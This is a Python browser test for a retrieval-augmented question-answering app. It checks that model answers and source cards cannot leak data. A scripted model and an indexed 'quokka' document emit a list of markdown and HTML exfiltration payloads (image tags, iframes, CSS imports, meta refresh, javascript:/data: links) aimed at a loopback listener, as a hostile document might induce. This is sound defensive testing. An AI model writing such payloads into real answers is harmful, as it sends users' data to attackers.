"""A rendered answer or source card cannot make the reader's browser send data anywhere.

In real Chromium: a scripted model (it forces an exact answer) writes exfiltration
payloads, and an indexed document carries more into a source card; an exfiltration
listener on a loopback port counts every request that reaches it. Pass: no request
reaches the listener, no ``javascript:``/``data:``/``vbscript:`` link is in the page,
every image is shown as a link the reader may choose to open, the page and its static
files carry the Content-Security-Policy, and the policy alone stops an image that
sanitizing missed.
"""

from __future__ import annotations

import http.server
import threading
from collections.abc import Iterator

import httpx
import pytest
from playwright.sync_api import expect
from sse_helpers import scripted_app

from app.middleware.page_security import PAGE_CSP
from bench.harness import free_port
from bench.scripted_llm import Script

pytestmark = pytest.mark.browser


class ExfiltrationListener:
    """A loopback HTTP server that records the path of every request it receives."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        hits = self.hits

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                hits.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/gif")
                self.end_headers()

            do_POST = do_HEAD = do_GET

            def log_message(self, *args: object) -> None:
                pass

        self.port = free_port()
        self.url = f"http://127.0.0.1:{self.port}"
        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", self.port), Handler)
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def __enter__(self) -> ExfiltrationListener:
        self.thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def listener() -> Iterator[ExfiltrationListener]:
    with ExfiltrationListener() as running:
        yield running


def payloads(url: str, port: int) -> list[str]:
    """Markdown and HTML a hostile document could get a model to write, one per line."""
    return [
        f"![inline]({url}/inline?q=the-question)",
        f'![titled]({url}/titled "a title")',
        f"![reference][img-ref]\n\n[img-ref]: {url}/reference-image",
        f"[a reference link][link-ref]\n\n[link-ref]: {url}/reference-link",
        f"<{url}/autolink>",
        f"See {url}/bare-url for more.",
        f"![protocol relative](//127.0.0.1:{port}/protocol-relative)",
        f"![encoded](&#104;ttp://127.0.0.1:{port}/entity-encoded)",
        f"![angle](<{url}/angle-brackets>)",
        f"| column |\n| --- |\n| ![in a table]({url}/table) |",
        f'<img src="{url}/raw-img">',
        f'<img srcset="{url}/srcset 1x">',
        f'<svg><image href="{url}/svg-image"/></svg>',
        f'<iframe src="{url}/iframe"></iframe>',
        f'<link rel="prefetch" href="{url}/prefetch">',
        f"<style>@import url({url}/css-import);</style>",
        f'<div style="background:url({url}/style-url)">styled</div>',
        f'<video poster="{url}/poster"></video>',
        f'<object data="{url}/object"></object>',
        f'<input type="image" src="{url}/input-image">',
        f'<meta http-equiv="refresh" content="0;url={url}/refresh">',
        f"[run me](javascript:fetch('{url}/javascript-link'))",
        "[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[vb link](vbscript:msgbox(1))",
        '<a href="javascript:alert(1)">raw javascript link</a>',
        "![data image](data:image/svg+xml;base64,PHN2Zy8+)",
    ]


LEAKY_DOC = (
    "Quokka care guide. Quokkas eat leaves and grasses on Rottnest Island. "
    "![card image]({url}/source-card) <img src={url}/source-card-raw>"
)


def test_answers_and_source_cards_send_nothing_and_show_images_as_links(
    page, serve, settings, embeddings, scripted_llm, listener
):
    lines = payloads(listener.url, listener.port)
    assert len(lines) >= 20
    answer = "\n\n".join(["What the quokka guide says [doc-001]:", *lines, "End of answer."])
    scripted_llm.script = Script(tokens=[answer[i : i + 40] for i in range(0, len(answer), 40)])
    app = scripted_app(settings, embeddings, scripted_llm.base_url, min_score=0.0)
    csp_seen: dict[str, str | None] = {}
    with serve(app) as server:
        document = {"id": "quokkas", "content": LEAKY_DOC.format(url=listener.url)}
        httpx.post(f"{server.url}/index", json={"documents": [document]}).raise_for_status()

        def record(response) -> None:
            path = response.url.removeprefix(server.url)
            if path == "/" or path.startswith("/static/"):
                csp_seen[path] = response.headers.get("content-security-policy")

        page.on("response", record)
        page.goto(f"{server.url}/")
        page.fill("#question", "What do quokkas eat?")
        page.press("#question", "Enter")
        expect(page.locator("body")).to_have_attribute("data-stream", "done", timeout=60_000)
        page.locator("#sources .source .expand").first.click()
        page.wait_for_timeout(1000)  # time for any late fetch to land

        answer_text = page.inner_text("#answer")
        card_text = page.inner_text("#sources")
        image_links = page.eval_on_selector_all(
            "#answer a.image-link", "els => els.map(e => [e.textContent, e.href, e.rel])"
        )
        bad_links = page.eval_on_selector_all(
            "a[href]",
            "els => els.map(e => e.getAttribute('href').trim().toLowerCase())"
            ".filter(h => /^(javascript|data|vbscript):/.test(h))",
        )
        new_tab_links = page.eval_on_selector_all(
            "#answer a[target=_blank]", "els => els.map(e => e.rel)"
        )
        images_in_text = page.eval_on_selector_all("#answer img, #sources img", "els => els.length")

        # The policy is a wall of its own: an image that sanitizing had missed is blocked.
        blocked = page.evaluate(
            """url => new Promise(resolve => {
                document.addEventListener('securitypolicyviolation',
                    e => resolve(e.violatedDirective), {once: true});
                const img = document.createElement('img');
                img.src = url + '/csp-probe';
                document.getElementById('answer').append(img);
                setTimeout(() => resolve('no violation'), 3000);
            })""",
            listener.url,
        )
        page.wait_for_timeout(500)

    assert listener.hits == []
    assert blocked.startswith("img-src")
    assert bad_links == []
    assert images_in_text == 0
    # Each image the model wrote is a visible link naming its host, opened only on a click.
    labels = [text for text, _, _ in image_links]
    for alt in ("inline", "titled", "reference", "in a table", "angle"):
        assert any(label.startswith(f"Image: {alt}") for label in labels), (alt, labels)
    assert all(f"127.0.0.1:{listener.port}" in text for text, _, _ in image_links)
    assert all(rel == "noopener noreferrer" for rel in new_tab_links) and new_tab_links
    # The text stays readable: links keep their words, raw HTML shows as text.
    for words in (
        "run me",
        "raw javascript link",
        "[Image: data image]",
        "<iframe",
        "End of answer.",
    ):
        assert words in answer_text, words
    assert "source-card" in card_text  # the document's own markup, shown as text
    assert csp_seen.get("/") == PAGE_CSP
    static = {path: csp for path, csp in csp_seen.items() if path.startswith("/static/")}
    assert static and set(static.values()) == {PAGE_CSP}, static
